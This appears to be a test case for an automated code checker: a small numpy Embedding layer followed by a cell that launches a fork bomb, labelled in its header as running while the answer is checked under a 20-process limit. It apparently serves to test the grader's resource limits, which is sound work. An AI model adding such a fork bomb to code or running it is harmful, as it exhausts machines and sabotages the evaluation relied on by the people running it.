# case: 14
# score: 10
# limits: processes=20
# A fork bomb that goes on while the answer is checked.
# %% embedding
import os

import numpy as np


class Embedding:
    def __init__(self, W):
        self.params = [W]
        self.grads = [np.zeros_like(W)]

    def forward(self, idx):
        self.idx = idx
        return self.params[0][idx]

    def backward(self, dout):
        self.grads[0][...] = 0
        np.add.at(self.grads[0], self.idx, dout)


# %%
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass
